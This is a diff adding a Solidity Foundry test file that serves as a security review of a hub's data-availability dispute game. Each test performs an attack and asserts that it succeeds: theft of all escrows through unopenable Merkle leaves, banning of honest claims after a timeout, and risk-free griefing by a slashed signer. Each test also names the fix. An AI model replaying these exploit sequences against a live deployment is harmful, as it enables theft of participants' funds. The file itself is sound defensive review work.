@@ -1,0 +1,453 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+
+import {IHub} from "../../src/interfaces/IHub.sol";
+import {IDataAvailabilityGame} from "../../src/interfaces/IDataAvailabilityGame.sol";
+import {IDisputeVerifier} from "../../src/interfaces/IDisputeVerifier.sol";
+import {ParticipantState, StateHash} from "../../src/types/Market.sol";
+import {CommunityConfig, ParticipantAccount, WindowStatus} from "../../src/types/Community.sol";
+import {DisputeKind, FinalStateProof, IntervalProof, SignedReading, StepProof} from "../../src/types/Dispute.sol";
+import {GameAction, GameMove} from "../../src/types/Game.sol";
+import {MerkleTree} from "../../src/libraries/MerkleTree.sol";
+import {WindowCommitment} from "../../src/libraries/WindowCommitment.sol";
+import {HubFixture} from "../utils/HubFixture.sol";
+
+// Test code: timestamps are the cheatcode's, casts are of small bounded values.
+// forge-lint: disable-start(block-timestamp, unsafe-typecast)
+
+/// @notice Security review of main (docs/review.md): attacks on the data-availability game and on the
+/// hub's handling of it. Each test PERFORMS an attack and asserts that it works on main today; the
+/// rule that would stop it is named in the test's comment and in docs/review.md.
+contract ReviewGameAttacksTest is HubFixture {
+    /// W of community A: a window tree of depth 3 (any W shows the same; the issue's 96 only adds moves).
+    uint32 internal constant GW = 8;
+    /// Participants of community A (and of the attacker's community B in R2).
+    uint256 internal constant NA = 4;
+
+    uint64 internal id;
+    address internal challenger;
+    address internal attacker;
+
+    bytes32[] internal leaves;
+    bytes32[] internal readingsRoots;
+    bytes32[] internal stateHashes;
+
+    function setUp() public {
+        // nodes[0..NA-1]: community A; nodes[NA]: an honest challenger; nodes[NA+1..2NA]: the attacker's
+        // own addresses (community B of R2).
+        _deploy(2 * NA + 1);
+        challenger = nodes[NA];
+        attacker = nodes[0];
+        id = hub.open(_cfg(0, BOND, ESCROW, CHALLENGE));
+        _joinRange(id, 0);
+    }
+
+    // ------------------------------------------------------------------ helpers
+
+    /// @dev A one-window community of NA participants nodes[from..from+NA-1], W = GW.
+    function _cfg(uint256 from, uint128 bond, uint128 escrow, uint32 period)
+        internal
+        view
+        returns (CommunityConfig memory c)
+    {
+        c = _config(NA);
+        for (uint256 i = 0; i < NA; ++i) {
+            c.participants[i] = nodes[from + i];
+        }
+        c.windowIntervals = GW;
+        c.windowCount = 1;
+        c.bond = bond;
+        c.escrow = escrow;
+        c.challengePeriod = period;
+    }
+
+    function _joinRange(uint64 cid, uint256 from) internal {
+        for (uint256 i = from; i < from + NA; ++i) {
+            vm.prank(nodes[i]);
+            hub.join(cid, "");
+        }
+    }
+
+    /// @dev Window 0's tree: every interval leaf WELL FORMED (interval = position) but over a random
+    /// readingsRoot and a random stateHash, except the last leaf, whose stateHash is the posted S_W's.
+    function _wellFormedTree(ParticipantState[] memory finalState) internal returns (bytes32) {
+        delete leaves;
+        delete readingsRoots;
+        delete stateHashes;
+        for (uint32 p = 0; p < GW; ++p) {
+            bytes32 rr = keccak256(abi.encode("no preimage: readings", p));
+            bytes32 sh = p == GW - 1 ? StateHash.hash(finalState) : keccak256(abi.encode("no preimage: state", p));
+            readingsRoots.push(rr);
+            stateHashes.push(sh);
+            leaves.push(WindowCommitment.intervalLeaf(p, rr, sh));
+        }
+        return MerkleTree.root(leaves);
+    }
+
+    /// @dev Node (height, index) of the canonical tree over `leaves`.
+    function _node(uint8 height, uint256 index) internal view returns (bytes32) {
+        uint256 width = uint256(1) << MerkleTree.depth(GW);
+        bytes32[] memory level = new bytes32[](width);
+        for (uint256 i = 0; i < leaves.length; ++i) {
+            level[i] = leaves[i];
+        }
+        for (uint8 h = 0; h < height; ++h) {
+            width >>= 1;
+            for (uint256 i = 0; i < width; ++i) {
+                level[i] = MerkleTree.hashPair(level[2 * i], level[2 * i + 1]);
+            }
+        }
+        return level[index];
+    }
+
+    /// @dev Siblings of leaf `index` bottom-up.
+    function _siblings(uint256 index) internal view returns (bytes32[] memory proof) {
+        uint8 depth = uint8(MerkleTree.depth(GW));
+        proof = new bytes32[](depth);
+        for (uint8 h = 0; h < depth; ++h) {
+            proof[h] = _node(h, (index >> h) ^ 1);
+        }
+    }
+
+    function _intervalProof(uint32 p) internal view returns (IntervalProof memory ip) {
+        ip = IntervalProof(p, p, readingsRoots[p], stateHashes[p], _siblings(p));
+    }
+
+    function _mv(GameAction action, bytes32 claim, address who) internal pure returns (GameMove memory m) {
+        m.action = action;
+        m.claim = claim;
+        m.challenger = who;
+    }
+
+    function _play(uint64 cid, address who, GameMove memory m) internal {
+        vm.prank(who);
+        hub.playGame(cid, 0, abi.encode(m));
+    }
+
+    /// @dev The claimant side answers node (height, index) of `claim`'s game of `gameChallenger`.
+    function _reveal(uint64 cid, bytes32 claim, address gameChallenger, address by, uint8 height, uint32 index)
+        internal
+    {
+        GameMove memory m = _mv(GameAction.Reveal, claim, gameChallenger);
+        if (height > 0) {
+            m.left = _node(height - 1, 2 * uint256(index));
+            m.right = _node(height - 1, 2 * uint256(index) + 1);
+        } else {
+            m.interval = index;
+            m.readingsRoot = readingsRoots[index];
+            m.stateHash = stateHashes[index];
+        }
+        _play(cid, by, m);
+    }
+
+    function _pick(uint64 cid, bytes32 claim, address gameChallenger, uint8 side) internal {
+        GameMove memory m = _mv(GameAction.Pick, claim, gameChallenger);
+        m.side = side;
+        _play(cid, gameChallenger, m);
+    }
+
+    /// @dev Plays a whole game down to leaf `position` and opens it; when `late`, every move waits for
+    /// the last second of its deadline (a move at exactly the deadline is allowed; Resolve is not).
+    function _playDown(uint64 cid, bytes32 claim, address gameChallenger, address claimant, uint32 position, bool late)
+        internal
+    {
+        bytes32 gid = gameModule.gameId(cid, claim, gameChallenger);
+        for (uint8 h = uint8(MerkleTree.depth(GW)); h > 0; --h) {
+            if (late) vm.warp(gameModule.game(address(hub), gid).deadline);
+            _reveal(cid, claim, gameChallenger, claimant, h, uint32(position >> h));
+            if (late) vm.warp(gameModule.game(address(hub), gid).deadline);
+            _pick(cid, claim, gameChallenger, uint8((position >> (h - 1)) & 1));
+        }
+        if (late) vm.warp(gameModule.game(address(hub), gid).deadline);
+        _reveal(cid, claim, gameChallenger, claimant, 0, position);
+    }
+
+    /// @dev Community B's co-signature by its participant 0 (key NA + 1).
+    function _coSignB(uint64 b, bytes32 root, ParticipantState[] memory s) internal view returns (bytes memory) {
+        return _packConcat(abi.encodePacked(uint8(0), _signDigest(keys[NA + 1], _digest(b, 0, root, s))));
+    }
+
+    function _sign(uint64 cid, bytes32 root, ParticipantState[] memory s, uint256 signer)
+        internal
+        view
+        returns (bytes memory)
+    {
+        // forge-lint: disable-next-line(unsafe-typecast)
+        return abi.encodePacked(uint8(signer), _signDigest(keys[signer], _digest(cid, 0, root, s)));
+    }
+
+    function _commitReveal(bytes32 root, bytes32 stateHash, DisputeKind kind, bytes memory proof, bytes memory err)
+        internal
+    {
+        vm.prank(challenger);
+        hub.commitDispute(keccak256(abi.encode(challenger, id, uint32(0), kind, keccak256(proof))));
+        vm.roll(block.number + 1);
+        vm.expectRevert(err);
+        vm.prank(challenger);
+        hub.dispute(id, 0, root, stateHash, kind, proof);
+    }
+
+    /// @dev Participant 0 takes every other participant's escrow and bond.
+    function _theft() internal pure returns (ParticipantState[] memory) {
+        int256[] memory nets = new int256[](NA);
+        int256 all = int256(uint256(BOND) + ESCROW);
+        for (uint256 i = 1; i < NA; ++i) {
+            nets[i] = -all;
+        }
+        nets[0] = all * int256(NA - 1);
+        return _state(nets);
+    }
+
+    function _liabilitiesA() internal view returns (uint256 sum) {
+        for (uint256 i = 0; i < NA; ++i) {
+            ParticipantAccount memory a = hub.account(id, i);
+            sum += uint256(a.escrow) + a.bond + hub.withdrawable(token, nodes[i]);
+        }
+        sum += hub.withdrawable(token, challenger);
+    }
+
+    // ------------------------------------------------------------------ R1 (critical)
+
+    /// R1. The game opens the window tree down to ONE interval leaf's preimage (interval, readingsRoot,
+    /// stateHash) and stops there. A claimant that builds every leaf well formed but over a readingsRoot
+    /// and a stateHash with no known preimage (the last leaf committing to the posted, thieving S_W)
+    /// answers every move of every game; yet no fraud proof can use the opened leaf: BadStep needs the M
+    /// slots under readingsRoot (and S_{t-1} under the previous stateHash), ForgedReading / ReadingMismatch
+    /// / VoidedSlot need a slot proof under readingsRoot, BadFinalState sees the right last state. The
+    /// honest challenger loses its bond to the thief, the claim finalizes, and one participant signing
+    /// alone takes every escrow and bond (attack 1 of issue 10, still open).
+    /// Rule that stops it: the game must go on below the interval leaf (readings tree down to a slot,
+    /// and the state preimage), or a revealed leaf must come with its readings and S_{t-1} on chain
+    /// (calldata/blob) so that the step becomes checkable; "opened" must mean "every fraud proof of that
+    /// step can be built", not "the leaf hash has a preimage".
+    function test_R1_Critical_WellFormedLeavesOverUnopenableContentsStealEverything() public {
+        ParticipantState[] memory s = _theft();
+        bytes32 root = _wellFormedTree(s);
+        bytes32 stateHash = StateHash.hash(s);
+        vm.warp(_end());
+        hub.update(id, 0, root, _packed(s), _packConcat(_sign(id, root, s, 0)));
+        bytes32 claim = hub.claimHash(0, root, stateHash);
+
+        // An honest challenger plays; the thief answers every move, the first leaf is opened.
+        uint256 gameBond = uint256(BOND) * GAME_BOND_BPS / 10_000;
+        vm.prank(challenger);
+        hub.playGame(id, 0, abi.encode(_mv(GameAction.Challenge, claim, challenger)));
+        _playDown(id, claim, challenger, attacker, 0, false);
+        IDataAvailabilityGame.Game memory g = gameModule.game(address(hub), gameModule.gameId(id, claim, challenger));
+        assertEq(uint8(g.phase), uint8(IDataAvailabilityGame.Phase.Opened), "leaf 0 opened");
+
+        // With the opened leaf, no proof goes through. BadStep at t = 0 (S_0 = zeros): the M slots must
+        // hash to a readingsRoot nobody knows a preimage of (here: every slot absent).
+        StepProof memory step;
+        step.current = _intervalProof(0);
+        step.slots = new SignedReading[](NA);
+        step.padding = new bytes32[](0);
+        _commitReveal(
+            root,
+            stateHash,
+            DisputeKind.BadStep,
+            abi.encode(step),
+            abi.encodeWithSelector(IDisputeVerifier.ReadingsRootMismatch.selector)
+        );
+        // BadStep at the last step: S_{W-2} has no preimage.
+        step.previous = _intervalProof(GW - 2);
+        step.current = _intervalProof(GW - 1);
+        step.prevState = _alternatingState(NA, 0);
+        _commitReveal(
+            root,
+            stateHash,
+            DisputeKind.BadStep,
+            abi.encode(step),
+            abi.encodeWithSelector(IDisputeVerifier.PrevStateMismatch.selector)
+        );
+        // BadFinalState: the last leaf does commit to the posted S_W.
+        _commitReveal(
+            root,
+            stateHash,
+            DisputeKind.BadFinalState,
+            abi.encode(FinalStateProof(_intervalProof(GW - 1))),
+            abi.encodeWithSelector(IDisputeVerifier.FraudNotProven.selector, DisputeKind.BadFinalState)
+        );
+
+        // The challenger's last deadline passes: it loses its bond to the thief.
+        vm.warp(g.deadline + 1);
+        _play(id, nodes[2], _mv(GameAction.Resolve, claim, challenger));
+        assertEq(hub.account(id, 0).escrow, ESCROW + gameBond, "the thief even takes the challenge bond");
+
+        // The claim finalizes; the community closes; the thief withdraws everything.
+        vm.warp(uint256(hub.windowRecord(id, 0).submittedAt) + CHALLENGE);
+        hub.finalize(id);
+        hub.close(id);
+        for (uint256 i = 1; i < NA; ++i) {
+            assertEq(hub.withdrawable(token, nodes[i]), 0, "victim gets nothing back");
+        }
+        uint256 all = NA * (uint256(BOND) + ESCROW) + gameBond;
+        assertEq(hub.withdrawable(token, attacker), all, "thief: every escrow, every bond, the challenge bond");
+        assertEq(token.balanceOf(address(hub)), all, "the hub holds exactly the stolen total");
+    }
+
+    // ------------------------------------------------------------------ R2 (high)
+
+    /// R2 (fixed). Before, `openGames` was keyed by (hub, claimHash) and claimHash has no community in
+    /// it: the attacker opened its own community B (same size, bond 0, escrow 0, challenge period
+    /// 2^32 - 1 s), posted in B the very (window, windowRoot, S_W) of A's honest pending claim and
+    /// challenged it in B at zero bond, and kept one B game alive for ever: A could neither finalize nor
+    /// close. Rule now: open games are counted per (hub, community). Same set-up; B's game no longer
+    /// holds A, whose honest claim finalizes when its challenge period ends.
+    function test_R2_ForeignCommunityGameDoesNotHoldClaim() public {
+        // A's honest claim, signed by 3 of 4 (participant 3 is offline).
+        ParticipantState[] memory s = _alternatingState(NA, 100);
+        bytes32 root = _wellFormedTree(s);
+        vm.warp(_end());
+        bytes memory sigs = bytes.concat(_sign(id, root, s, 0), _sign(id, root, s, 1), _sign(id, root, s, 2));
+        hub.update(id, 0, root, _packed(s), _packConcat(sigs));
+        bytes32 claim = hub.claimHash(0, root, StateHash.hash(s));
+
+        // The attacker's community B: its own NA addresses, free, never-ending challenge period.
+        uint64 b = hub.open(_cfg(NA + 1, 0, 0, type(uint32).max));
+        _joinRange(b, NA + 1);
+        // B's participant 0 is key NA + 1.
+        hub.update(b, 0, root, _packed(s), _coSignB(b, root, s));
+        assertEq(hub.claimHash(0, root, StateHash.hash(s)), claim, "the same claimHash in B");
+
+        address sybil = makeAddr("sybil-0");
+        vm.prank(sybil);
+        hub.playGame(b, 0, abi.encode(_mv(GameAction.Challenge, claim, sybil)));
+        assertEq(gameModule.openGames(address(hub), b), 1, "B's game counts in B");
+        assertEq(gameModule.openGames(address(hub), id), 0, "and not in A");
+
+        // A's challenge period ends: A's honest claim finalizes, A closes; B's game is still open.
+        vm.warp(block.timestamp + CHALLENGE + 1);
+        hub.finalize(id);
+        assertEq(uint8(hub.windowRecord(id, 0).status), uint8(WindowStatus.Final), "A's honest claim final");
+        hub.close(id);
+        assertEq(gameModule.openGames(address(hub), b), 1, "B's game still open");
+    }
+
+    // ------------------------------------------------------------------ R3 (medium)
+
+    /// R3 (fixed). Before, a fully signed result replaced the challenged claim of the last window and
+    /// anyone closed in the same block: the challenger's bond could never be returned (`playGame` needs
+    /// an Active community). Rule now: `close` refuses while a game of the community is open; a game
+    /// whose claim is no longer pending ends Void at anyone's next move, returning the bond, and then
+    /// `close` goes through. Money is conserved.
+    function test_R3_CloseWaitsForOpenGameAndBondIsReturned() public {
+        ParticipantState[] memory s = _alternatingState(NA, 100);
+        bytes32 root = _wellFormedTree(s);
+        vm.warp(_end());
+        hub.update(
+            id, 0, keccak256("a partial claim"), _packed(s), _packConcat(_sign(id, keccak256("a partial claim"), s, 0))
+        );
+        bytes32 claim = hub.claimHash(0, keccak256("a partial claim"), StateHash.hash(s));
+        uint256 before = token.balanceOf(challenger);
+        vm.prank(challenger);
+        hub.playGame(id, 0, abi.encode(_mv(GameAction.Challenge, claim, challenger)));
+
+        // Everyone signs the honest result; close in the same block is refused.
+        bytes memory all;
+        for (uint256 i = 0; i < NA; ++i) {
+            all = bytes.concat(all, _sign(id, root, s, i));
+        }
+        hub.update(id, 0, root, _packed(s), _packConcat(all));
+        vm.expectRevert(abi.encodeWithSelector(IHub.GameInProgress.selector, id, uint32(1)));
+        hub.close(id);
+
+        // Anyone ends the game (Void: its claim was replaced); the bond is returned; close goes through.
+        _play(id, nodes[1], _mv(GameAction.Resolve, claim, challenger));
+        assertEq(gameModule.openGames(address(hub), id), 0);
+        hub.close(id);
+        vm.prank(challenger);
+        hub.withdraw(token);
+        assertEq(token.balanceOf(challenger), before, "bond returned");
+        assertEq(token.balanceOf(address(hub)), _liabilitiesA(), "nothing stranded in the hub");
+    }
+
+    // ------------------------------------------------------------------ R5 (high)
+
+    /// R5. One missed move deadline (1 hour) turns an HONEST claim into a slashed and BANNED one: the
+    /// game's ClaimantLost rejects the claim "as fraud" (whole bonds slashed, half to the challenger) and
+    /// records its claimHash as rejected; the commitment of a window is deterministic (canonical tree,
+    /// strict Ed25519 signatures), so the correct result can never be posted again, not even fully
+    /// signed. An outsider who challenges while the signers' nodes are unreachable for an hour (today:
+    /// always, the node does not answer games yet, DESIGN.md §5.6) takes half their bonds; with one
+    /// participant that never signs (the attacker's own seat) the window can then never become final
+    /// and `close` is locked for good.
+    /// Rule that stops it: a claim lost by timeout (data not shown, fraud not proven) must not be banned
+    /// for good (ban only proven fraud; or let the claim come back with its data, e.g. posted with the
+    /// whole window tree), and a fully signed result must always be postable.
+    function test_R5_High_MissedDeadlineBansHonestResultAndLocksClose() public {
+        ParticipantState[] memory s = _alternatingState(NA, 100);
+        bytes32 root = _wellFormedTree(s);
+        vm.warp(_end());
+        bytes memory sigs = bytes.concat(_sign(id, root, s, 0), _sign(id, root, s, 1), _sign(id, root, s, 2));
+        hub.update(id, 0, root, _packed(s), _packConcat(sigs));
+        bytes32 claim = hub.claimHash(0, root, StateHash.hash(s));
+
+        // An outsider challenges; nobody answers within the hour.
+        vm.prank(challenger);
+        hub.playGame(id, 0, abi.encode(_mv(GameAction.Challenge, claim, challenger)));
+        vm.warp(block.timestamp + MOVE_DEADLINE + 1);
+        _play(id, challenger, _mv(GameAction.Resolve, claim, challenger));
+        for (uint256 i = 0; i < 3; ++i) {
+            assertEq(hub.account(id, i).bond, 0, "honest signer lost its whole bond");
+        }
+        uint256 gameBond = uint256(BOND) * GAME_BOND_BPS / 10_000;
+        assertGt(hub.withdrawable(token, challenger), gameBond + BOND, "the outsider profits from honest bonds");
+
+        // The correct result is banned, even signed by everyone.
+        vm.expectRevert(abi.encodeWithSelector(IHub.ClaimWasRejected.selector, id, claim));
+        hub.update(id, 0, root, _packed(s), _packConcat(sigs));
+        bytes memory all = bytes.concat(sigs, _sign(id, root, s, 3));
+        vm.expectRevert(abi.encodeWithSelector(IHub.ClaimWasRejected.selector, id, claim));
+        hub.update(id, 0, root, _packed(s), _packConcat(all));
+        // Without participant 3's signature nothing else honest exists: the window never finalizes.
+        vm.warp(block.timestamp + 365 days);
+        vm.expectRevert(abi.encodeWithSelector(IHub.WindowsNotFinal.selector, id, uint32(0), uint32(1)));
+        hub.close(id);
+    }
+
+    // ------------------------------------------------------------------ R6 (high)
+
+    /// R6. A signer whose bond is gone (slashed once, or drawn by settlement) still co-signs partial
+    /// claims: nothing is at stake any more. Participant 0, slashed once, posts a fresh random-root claim
+    /// signed by itself alone each time the previous one is rejected (front-running the honest update
+    /// with a higher fee; a second partial claim reverts WindowPending). Every such claim needs a
+    /// challenger with a bond and one full move deadline to go; the challenger earns nothing (nothing to
+    /// slash) and the attacker loses nothing. The window, and `close`, are held for as long as the attacker
+    /// pays gas.
+    /// Rule that stops it: only a signer whose bond is whole (>= the configured bond) counts for a partial
+    /// claim (or a claim posts its own submission deposit, lost on rejection).
+    function test_R6_High_SlashedSignerKeepsPostingClaimsAtNoRisk() public {
+        ParticipantState[] memory s = _theft();
+        vm.warp(_end());
+        uint256 challengerTokens = token.balanceOf(challenger);
+        for (uint256 round = 0; round < 5; ++round) {
+            bytes32 root = keccak256(abi.encode("random root", round));
+            hub.update(id, 0, root, _packed(s), _packConcat(_sign(id, root, s, 0)));
+            bytes32 claim = hub.claimHash(0, root, StateHash.hash(s));
+            // The honest participants cannot post their claim meanwhile.
+            ParticipantState[] memory honest = _alternatingState(NA, 100);
+            bytes memory hs = _sign(id, keccak256("honest"), honest, 1);
+            vm.expectRevert(abi.encodeWithSelector(IHub.WindowPending.selector, id, uint32(0)));
+            hub.update(id, 0, keccak256("honest"), _packed(honest), _packConcat(hs));
+            // A challenger must play and wait a whole move deadline.
+            vm.prank(challenger);
+            hub.playGame(id, 0, abi.encode(_mv(GameAction.Challenge, claim, challenger)));
+            vm.warp(block.timestamp + MOVE_DEADLINE + 1);
+            _play(id, challenger, _mv(GameAction.Resolve, claim, challenger));
+            vm.prank(challenger);
+            hub.withdraw(token);
+        }
+        assertEq(hub.account(id, 0).bond, 0, "slashed in round 0 only");
+        assertEq(hub.account(id, 0).escrow, ESCROW, "rounds 1..4 cost the attacker nothing");
+        // The challenger earned half a bond in round 0, nothing after: 4 rounds of unpaid work.
+        uint256 each = uint256(BOND) / 2 / (NA - 1);
+        assertEq(token.balanceOf(challenger), challengerTokens + BOND - each * (NA - 1), "no reward after round 0");
+        assertEq(uint256(hub.windowRecord(id, 0).status), uint256(WindowStatus.None), "window still open");
+    }
+
+    function _end() internal pure returns (uint256) {
+        return uint256(START) + uint256(GW) * INTERVAL;
+    }
+}
+// forge-lint: disable-end(block-timestamp, unsafe-typecast)
